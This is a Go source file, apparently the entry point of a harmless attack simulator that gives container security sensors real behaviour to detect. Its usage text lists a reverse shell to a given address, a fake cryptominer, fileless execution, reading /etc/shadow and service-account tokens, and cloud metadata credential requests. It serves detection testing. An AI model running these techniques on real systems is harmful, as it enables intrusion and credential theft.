// Command attack does, harmlessly, what attackers do in containers: it gives the sensor something real to see.
//
// It is one static binary for pods and bare containers. It refuses to harm: it mines nothing and burns at most a
// twentieth of one CPU, it connects only where it is told to, it reads a token without showing it, and what it
// writes is a copy of itself. Every command ends on SIGTERM, also as a container's first process.
package main

import (
	"fmt"
	"os"
	"os/signal"
	"path/filepath"
	"syscall"
)

const usage = `usage: attack COMMAND
  mine ADDR               becomes "xmrig --url stratum+tcp://ADDR …", speaks to the pool, burns at most 5 % of a CPU
  revshell ADDR           connects and becomes /bin/sh with descriptors 0 to 2 on the socket
  shell [LINE…]           runs /bin/sh on a terminal of its own, types the lines, and stays until the shell ends
  memfd [COMMAND…]        becomes itself from an anonymous memory file, then does COMMAND (default: wait)
  deleted [COMMAND…]      becomes a copy of itself that has no name any more, then does COMMAND
  drop [COMMAND…]         writes a copy of itself to /tmp/dropped and becomes it, then does COMMAND
  token                   reads the service account's token, tells its length
  shadow                  reads /etc/shadow, tells its length
  metadata [ADDR]         asks the cloud metadata service (default 169.254.169.254:80) for credentials
  connect ADDR            connects once and holds the connection
  beacon KIND ADDR        sends a numbered message every 50 ms for ever; tells what fails and what works again
                          KIND: tcp (one connection), tcp-new (one each), udp, raw, packet, icmp
  serve ADDR              answers every HTTP request with "ok"
  wait                    does nothing, well
`

func main() {
	name, args := filepath.Base(os.Args[0]), os.Args[1:]
	if name == minerName { // what mine has become
		end(mineOn(args))
	}
	if len(args) == 0 {
		end(errUsage)
	}
	end(run(args[0], args[1:]))
}

// errUsage asks for the usage text.
var errUsage = fmt.Errorf("%s", usage)

func run(command string, args []string) error {
	commands := map[string]struct {
		least, most int // arguments
		do          func(args []string) error
	}{
		"mine":     {1, 1, func(a []string) error { return mine(a[0]) }},
		"revshell": {1, 1, func(a []string) error { return reverseShell(a[0]) }},
		"shell":    {0, 99, terminalShell},
		"memfd":    {0, 99, fromMemory},
		"deleted":  {0, 99, fromDeleted},
		"drop":     {0, 99, fromDropped},
		"token":    {0, 0, func([]string) error { return readSecret(tokenPath) }},
		"shadow":   {0, 0, func([]string) error { return readSecret("/etc/shadow") }},
		"metadata": {0, 1, askMetadata},
		"connect":  {1, 1, func(a []string) error { return connect(a[0]) }},
		"beacon":   {2, 2, func(a []string) error { return beacon(a[0], a[1]) }},
		"serve":    {1, 1, func(a []string) error { return serve(a[0]) }},
		"wait":     {0, 0, func([]string) error { return wait() }},
	}
	c, ok := commands[command]
	if !ok || len(args) < c.least || len(args) > c.most {
		return errUsage
	}
	return c.do(args)
}

func end(err error) {
	if err == nil {
		os.Exit(0)
	}
	if err == errUsage { //nolint:errorlint // never wrapped
		fmt.Fprint(os.Stderr, usage)
		os.Exit(2)
	}
	fmt.Fprintln(os.Stderr, "attack:", err)
	os.Exit(1)
}

// ended is told when the process shall end: a first process of a container has no default for signals.
func ended() <-chan os.Signal {
	signals := make(chan os.Signal, 1)
	signal.Notify(signals, syscall.SIGTERM, syscall.SIGINT)
	return signals
}

// wait waits to be ended, and buries orphans as a first process must.
func wait() error {
	children := make(chan os.Signal, 1)
	signal.Notify(children, syscall.SIGCHLD)
	stop := ended()
	for {
		select {
		case <-stop:
			return nil
		case <-children:
			for {
				if pid, err := syscall.Wait4(-1, nil, syscall.WNOHANG, nil); pid <= 0 || err != nil {
					break
				}
			}
		}
	}
}
